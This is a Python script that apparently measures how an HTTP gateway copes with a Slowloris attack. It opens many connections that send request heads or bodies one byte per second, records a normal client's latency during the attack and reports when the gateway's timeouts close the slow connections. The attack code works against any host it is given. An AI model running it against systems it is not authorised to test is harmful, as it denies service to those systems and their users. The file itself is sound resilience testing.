"""Slowloris, measured (issue 20 point 2): DRIBBLERS connections send a request head one byte per
second, SLOW_BODIES send a declared body one byte per second; meanwhile a normal client keeps
asking GET /api/server/ping on one keep-alive connection. Prints the normal client's latency
(p50, p99) on the idle gateway and amid the attack, and when the gateway cut the dribblers and
the slow bodies (their configured deadlines: request_header_timeout, body_timeout).

Usage: python3 dribblers.py HOST PORT DRIBBLERS SLOW_BODIES SECONDS"""

import asyncio
import statistics
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
dribblers, slow_bodies, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])


async def normal_client(duration: float) -> list[float]:
    reader, writer = await asyncio.open_connection(host, port)
    request = f"GET /api/server/ping HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    times, end = [], time.monotonic() + duration
    while time.monotonic() < end:
        started = time.perf_counter()
        writer.write(request)
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        length = int([l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0].split(b":")[1])
        await reader.readexactly(length)
        times.append(time.perf_counter() - started)
        await asyncio.sleep(0.005)
    writer.close()
    return times


async def drip(prefix: bytes, payload: bytes, cut: list[float], started: float, deadline: float) -> None:
    """Sends `prefix` at once, then `payload` a byte a second until the gateway closes the
    connection (its time noted)."""
    try:
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(prefix)
        await writer.drain()
    except OSError:
        cut.append(-1.0)
        return
    closed = asyncio.ensure_future(reader.read())
    for byte in payload:
        if closed.done() or time.monotonic() > deadline:
            break
        try:
            writer.write(bytes([byte]))
            await writer.drain()
        except (ConnectionError, OSError):
            break
        await asyncio.wait([closed], timeout=1.0)
    if not closed.done():
        try:
            await asyncio.wait_for(closed, timeout=max(0.0, deadline - time.monotonic()))
        except (asyncio.TimeoutError, ConnectionError, OSError):
            pass
    if closed.done():
        cut.append(time.monotonic() - started)
    writer.close()


def summary(times: list[float]) -> str:
    ms = sorted(t * 1000 for t in times)
    return f"{len(ms)} requests, p50 {statistics.median(ms):.2f} ms, p99 {ms[int(len(ms) * 0.99) - 1]:.2f} ms"


async def main() -> None:
    idle = await normal_client(5)
    head = f"GET /health HTTP/1.1\r\nhost: {host}\r\nx-slow: {'a' * 200}\r\n\r\n".encode()
    # A slow body: the head whole, then the declared body a byte a second.
    body_head = (f"POST /mcp HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\n"
                 f"accept: application/json, text/event-stream\r\ncontent-length: 100000\r\n\r\n").encode()
    started = time.monotonic()
    deadline = started + seconds
    cut_heads, cut_bodies = [], []
    attack = [drip(b"", head, cut_heads, started, deadline) for _ in range(dribblers)]
    attack += [drip(body_head, b"{" * 1000, cut_bodies, started, deadline) for _ in range(slow_bodies)]
    attackers = asyncio.gather(*attack)
    await asyncio.sleep(2)  # every attacker connected and dribbling
    during = await normal_client(min(10.0, seconds - 4))
    await attackers
    p99 = lambda t: sorted(t)[int(len(t) * 0.99) - 1]
    print(f"idle gateway:   {summary(idle)}")
    print(f"amid the attack: {summary(during)}  (p99 ratio {p99(during) / p99(idle):.2f}x)")
    for name, cut, count in [("dribbled heads", cut_heads, dribblers), ("slow bodies", cut_bodies, slow_bodies)]:
        refused = sum(1 for c in cut if c < 0)
        times = sorted(c for c in cut if c >= 0)
        when = f"cut after {times[0]:.1f}-{times[-1]:.1f} s (median {statistics.median(times):.1f} s)" if times else "none cut"
        print(f"{name}: {len(times)} of {count} cut by the gateway, {refused} refused at connect; {when}")


asyncio.run(main())
